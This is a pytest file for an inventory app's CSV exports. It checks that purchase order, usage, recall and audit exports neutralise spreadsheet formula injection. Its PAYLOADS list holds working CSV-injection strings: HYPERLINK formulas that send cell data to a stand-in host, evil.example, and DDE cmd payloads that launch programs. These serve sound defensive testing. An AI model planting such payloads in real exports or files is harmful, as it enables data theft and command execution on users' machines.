"""CSV-01 (api.md 1.1): no CSV export hands a spreadsheet a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import pytest
from flask.testing import FlaskClient

from inventory import csvexport
from inventory.extensions import db
from inventory.models import PurchaseOrder, Recall, RecallPatient
from inventory.services import purchasing
from tests import factories
from tests.conftest import ApiClient
from tests.manager.conftest import NOW, TODAY, commit, draw, lot, product, vials

#: The known payloads and bypasses: plain formulas, DDE, leading blanks and quotes, tab and CR.
PAYLOADS = [
    '=1+HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    '=HYPERLINK("http://evil.example")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "   =1+1",
    '"=1+1',
    "'=1+1",
    " '\"@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\tplain",
    "\rplain",
    'x;=HYPERLINK("http://evil.example")',
]

SKIPPED = " \t\r\n\u00a0\"'"


def executes(cell: str) -> bool:
    """Would a spreadsheet read this cell as a formula? A leading apostrophe makes any cell text."""
    if not cell or cell.startswith("'"):
        return False
    significant = cell.lstrip(SKIPPED)
    return cell[0] in "=+-@\t\r" or (bool(significant) and significant[0] in "=+-@")


def cells(text: str, delimiter: str = ",") -> list[str]:
    return [
        cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter) for cell in row
    ]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_01_writer_neutralises_every_known_payload(payload: str) -> None:
    text = csvexport.to_csv(["name"], [[payload]])
    (cell,) = cells(text)[1:]
    assert not executes(cell)
    assert cell.endswith(payload.lstrip("'")) or cell == "'" + payload


def test_csv_01_semicolon_excel_keeps_a_quoted_cell_whole() -> None:
    """Excel in Turkish splits on `;`: every cell is quoted, so `x;=…` stays one text cell."""
    text = csvexport.to_csv(["name"], [["x;=1+1"]])
    assert all(not executes(cell) for cell in cells(text, delimiter=";"))


def test_csv_01_numbers_stay_numbers_and_words_stay_words() -> None:
    text = csvexport.to_csv(["a", "b", "c", "d"], [[-3, 12, "Ayşe Yılmaz", None]])
    assert text.startswith("\ufeff")
    assert cells(text)[4:] == ["-3", "12", "Ayşe Yılmaz", ""]


def _assert_safe(text: str, expected: list[str]) -> None:
    found = cells(text)
    assert not [cell for cell in found if executes(cell)], found
    for payload in expected:
        assert any(cell.endswith(payload.strip()) for cell in found), payload


def test_csv_01_purchase_order_csv_survives_product_and_supplier_names(
    client: FlaskClient, login_as: Any
) -> None:
    login_as("manager")
    prod = factories.ProductFactory(name=PAYLOADS[0], gtin=None)
    with client.application.test_request_context():
        order = purchasing.create_order(PAYLOADS[4], "", [purchasing.LineInput(prod.id, 3)])
    text = client.get(f"/manager/orders/{order.id}.csv").get_data(as_text=True)
    _assert_safe(text, [PAYLOADS[0], PAYLOADS[4]])


def test_csv_01_usage_report_survives_a_product_name(client: FlaskClient, login_as: Any, frozen: Any) -> None:
    payload = "@SUM(1+9)*cmd|' /C calc'!A0"
    vial = vials(lot(product(name=payload), expiry=TODAY + timedelta(days=90)))[0]
    draw(vial, 1000, at=NOW - timedelta(days=2))
    commit()
    login_as("manager")
    text = client.get("/manager/reports/usage.csv").get_data(as_text=True)
    _assert_safe(text, [payload])


def test_csv_01_recall_csv_survives_names_and_notes(api_as: Any) -> None:
    api: ApiClient = api_as("manager")
    lot = factories.LotFactory(number="LOT-1")
    recall = Recall(
        lot_id=lot.id,
        product_id=lot.product_id,
        lot_number="LOT-1",
        classification="I",
        reason="x",
        created_by_id=api.user.id,
    )
    db.session.add(recall)
    db.session.flush()
    for index, payload in enumerate(PAYLOADS[:8]):
        patient = factories.PatientFactory(name=payload, phone="+90 555 000 00 0" + str(index))
        db.session.add(RecallPatient(recall=recall, patient=patient, note=PAYLOADS[-1 - index]))
    db.session.commit()
    response = api.get(f"/recalls/{recall.id}/patients.csv")
    assert response.status_code == 200, response.get_data(as_text=True)
    _assert_safe(response.get_data(as_text=True), PAYLOADS[:3])


def test_csv_01_audit_csv_survives_a_typed_reason(client: FlaskClient, login_as: Any) -> None:
    login_as("manager")
    with client.application.test_request_context():
        order = purchasing.create_order("Acme", "")
        purchasing.cancel(_order(order.id), PAYLOADS[2])
    text = client.get("/manager/audit.csv").get_data(as_text=True)
    _assert_safe(text, [PAYLOADS[2]])


def _order(order_id: int) -> PurchaseOrder:
    order = db.session.get(PurchaseOrder, order_id)
    assert order is not None
    return order
